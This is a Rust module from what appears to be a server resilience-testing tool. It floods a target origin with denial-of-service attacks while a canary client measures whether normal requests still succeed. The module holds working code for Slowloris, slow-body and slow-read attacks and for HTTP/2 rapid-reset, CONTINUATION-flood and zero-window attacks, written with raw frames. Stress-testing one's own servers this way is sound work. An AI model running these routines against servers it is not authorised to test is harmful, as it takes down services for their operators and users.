//! Abuse of a running origin by many bad clients, while one good viewer, the canary, has to notice nothing.

use std::cell::{Cell, RefCell};
use std::net::SocketAddr;
use std::rc::Rc;
use std::time::{Duration, Instant};

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpSocket, TcpStream};

use crate::frames::{self, END_HEADERS, END_STREAM, frame, kind};
use crate::framing;
use crate::load::{Load, Mix, Outcome, run};
use crate::process::Held;
use crate::targets::Targets;

/// What an attack saw.
#[derive(Clone, Debug, Default)]
pub struct Seen {
    /// Connections opened.
    pub opened: u64,
    /// Connections that the server ended.
    pub ended: u64,
    /// The longest that one lasted before that.
    pub longest: Duration,
    /// Whatever it does a second: bytes dripped, streams reset.
    pub acts: u64,
}

/// An attack.
#[derive(Clone, Copy, Debug, PartialEq, Eq, clap::ValueEnum)]
pub enum Attack {
    /// Request heads that never end.
    Slowloris,
    /// Request bodies that never end.
    SlowBody,
    /// Answers that are never read.
    SlowRead,
    /// HTTP/2 streams opened and reset.
    Resets,
    /// HTTP/2 headers that never end.
    Continuation,
    /// HTTP/2 answers asked for and never given room.
    NoWindow,
}

/// One round of abuse.
#[derive(Clone, Debug)]
pub struct Plan {
    /// Whom to abuse.
    pub address: SocketAddr,
    /// Connections of each slow attack.
    pub connections: usize,
    /// HTTP/2 streams reset a second.
    pub resets_per_s: u64,
    /// How long each attack lasts.
    pub duration: Duration,
    /// Requests of the canary a second.
    pub canary_rate: f64,
    /// The process, to see what it holds.
    pub pid: Option<u32>,
}

/// What came of one attack.
pub struct Report {
    /// The attack; `None` for the corpus of malformed requests.
    pub attack: Option<Attack>,
    /// What it saw.
    pub seen: Seen,
    /// What the canary saw meanwhile.
    pub canary: Outcome,
    /// Memory before and at the worst.
    pub memory_bytes: Option<(u64, u64)>,
    /// What the corpus found.
    pub findings: Vec<String>,
}

/// Runs `attack`, or the corpus, while the canary plays.
pub async fn round(plan: &Plan, attack: Option<Attack>, targets: &Rc<Targets>) -> anyhow::Result<Report> {
    let largest: Rc<str> = targets.largest()?.into();
    let held = || {
        plan.pid
            .and_then(|pid| Held::by(pid).ok())
            .map(|held| held.memory_bytes)
    };
    let before = held();
    let canary = Load {
        address: plan.address,
        tls: None,
        mix: Mix::Mixed,
        rate: Some(plan.canary_rate),
        connections: 8,
        duration: plan.duration,
    };
    let playing = tokio::task::spawn_local(run(canary, targets.clone()));
    let seen = Rc::new(RefCell::new(Seen::default()));
    let worst = Rc::new(Cell::new(before.unwrap_or(0)));
    let deadline = Instant::now() + plan.duration;
    let mut attackers = tokio::task::JoinSet::new();
    let mut findings = Vec::new();
    match attack {
        Some(attack) => {
            let many = match attack {
                Attack::Slowloris | Attack::SlowBody | Attack::SlowRead => plan.connections,
                Attack::Resets | Attack::Continuation | Attack::NoWindow => 10,
            };
            for _ in 0..many {
                let attacker = Attacker {
                    address: plan.address,
                    attack,
                    largest: largest.clone(),
                    acts_per_s: (plan.resets_per_s / many as u64).max(1),
                    deadline,
                };
                attackers.spawn_local(attacker.go_on(seen.clone()));
            }
        }
        None => {
            let (count, wrong) = framing::probe(plan.address).await;
            seen.borrow_mut().opened = count as u64;
            findings = wrong;
        }
    }
    while !playing.is_finished() {
        worst.set(worst.get().max(held().unwrap_or(0)));
        tokio::time::sleep(Duration::from_millis(200)).await;
    }
    attackers.abort_all();
    while attackers.join_next().await.is_some() {}
    let canary = playing.await?;
    let seen = seen.borrow().clone();
    Ok(Report {
        attack,
        seen,
        canary,
        memory_bytes: before.map(|before| (before, worst.get())),
        findings,
    })
}

/// One bad client; comes again whenever it is thrown out.
struct Attacker {
    address: SocketAddr,
    attack: Attack,
    largest: Rc<str>,
    acts_per_s: u64,
    deadline: Instant,
}

impl Attacker {
    async fn go_on(self, seen: Rc<RefCell<Seen>>) {
        while Instant::now() < self.deadline {
            let begun = Instant::now();
            seen.borrow_mut().opened += 1;
            let _ended = match self.attack {
                Attack::Slowloris => {
                    self.drip(b"GET /healthz HTTP/1.1\r\nhost: a\r\n", b"x: y\r\n", &seen)
                        .await
                }
                Attack::SlowBody => {
                    let head = b"POST /vod/x/license/clearkey HTTP/1.1\r\nhost: a\r\ncontent-length: 10000\r\n\r\n";
                    self.drip(head, b"{", &seen).await
                }
                Attack::SlowRead => self.read_slowly(&seen).await,
                Attack::Resets => self.reset(&seen).await,
                Attack::Continuation => self.continue_for_ever(&seen).await,
                Attack::NoWindow => self.give_no_room(&seen).await,
            };
            {
                let mut seen = seen.borrow_mut();
                seen.ended += 1;
                seen.longest = seen.longest.max(begun.elapsed());
            }
            tokio::time::sleep(Duration::from_millis(100)).await;
        }
    }

    /// Sends `head` and then `drop` every half second, until the server closes.
    async fn drip(&self, head: &[u8], drip: &[u8], seen: &Rc<RefCell<Seen>>) -> std::io::Result<()> {
        let mut stream = TcpStream::connect(self.address).await?;
        stream.write_all(head).await?;
        let mut answer = [0; 1024];
        loop {
            tokio::select! {
                read = stream.read(&mut answer) => if read? == 0 { return Ok(()) },
                () = tokio::time::sleep(Duration::from_millis(500)) => {
                    stream.write_all(drip).await?;
                    seen.borrow_mut().acts += 1;
                }
            }
        }
    }

    /// Asks for much and takes a byte every half second.
    async fn read_slowly(&self, seen: &Rc<RefCell<Seen>>) -> std::io::Result<()> {
        let socket = match self.address {
            SocketAddr::V4(_) => TcpSocket::new_v4()?,
            SocketAddr::V6(_) => TcpSocket::new_v6()?,
        };
        socket.set_recv_buffer_size(2048)?;
        let mut stream = socket.connect(self.address).await?;
        let request = format!("GET {} HTTP/1.1\r\nhost: a\r\n\r\n", self.largest);
        // More than any send buffer of the kernel's holds.
        stream.write_all(request.repeat(50).as_bytes()).await?;
        loop {
            tokio::time::sleep(Duration::from_millis(500)).await;
            if stream.read(&mut [0; 1]).await? == 0 {
                return Ok(());
            }
            // Reading alone would see a reset when all that came before it is read.
            if let Some(error) = stream.take_error()? {
                return Err(error);
            }
            seen.borrow_mut().acts += 1;
        }
    }

    /// Opens streams and resets them, at its rate.
    async fn reset(&self, seen: &Rc<RefCell<Seen>>) -> std::io::Result<()> {
        let stream = TcpStream::connect(self.address).await?;
        let (mut read, mut write) = stream.into_split();
        write.write_all(frames::OPENING).await?;
        let block = frames::request(&self.largest);
        let attack = async {
            let mut next = 1;
            loop {
                // Ten turns a second.
                let mut burst = Vec::new();
                for _ in 0..(self.acts_per_s / 10).max(1) {
                    burst.extend(frame(kind::HEADERS, END_HEADERS | END_STREAM, next, &block));
                    burst.extend(frame(kind::RST_STREAM, 0, next, &[0, 0, 0, 8]));
                    next += 2;
                }
                write.write_all(&burst).await?;
                seen.borrow_mut().acts += (self.acts_per_s / 10).max(1);
                tokio::time::sleep(Duration::from_millis(100)).await;
            }
        };
        tokio::select! { ended = attack => ended, ended = until_end(&mut read) => ended }
    }

    /// Begins a header block and never ends it.
    async fn continue_for_ever(&self, seen: &Rc<RefCell<Seen>>) -> std::io::Result<()> {
        let stream = TcpStream::connect(self.address).await?;
        let (mut read, mut write) = stream.into_split();
        write.write_all(frames::OPENING).await?;
        let begin = frame(kind::HEADERS, END_STREAM, 1, &frames::request("/healthz"));
        write.write_all(&begin).await?;
        let more = frame(kind::CONTINUATION, 0, 1, &frames::field("x", &"y".repeat(4_000)));
        let attack = async {
            loop {
                write.write_all(&more).await?;
                seen.borrow_mut().acts += 1;
                tokio::time::sleep(Duration::from_millis(1)).await;
            }
        };
        tokio::select! { ended = attack => ended, ended = until_end(&mut read) => ended }
    }

    /// Asks for a hundred answers and gives room for one byte of each.
    async fn give_no_room(&self, seen: &Rc<RefCell<Seen>>) -> std::io::Result<()> {
        let stream = TcpStream::connect(self.address).await?;
        let (mut read, mut write) = stream.into_split();
        write.write_all(frames::OPENING).await?;
        write
            .write_all(&frame(kind::SETTINGS, 0, 0, &[0, 4, 0, 0, 0, 1]))
            .await?;
        let block = frames::request(&self.largest);
        for number in 0..100 {
            let ask = frame(kind::HEADERS, END_HEADERS | END_STREAM, number * 2 + 1, &block);
            write.write_all(&ask).await?;
            seen.borrow_mut().acts += 1;
        }
        until_end(&mut read).await
    }
}

async fn until_end(read: &mut tokio::net::tcp::OwnedReadHalf) -> std::io::Result<()> {
    let mut buffer = vec![0; 16 << 10];
    while read.read(&mut buffer).await? > 0 {}
    Ok(())
}
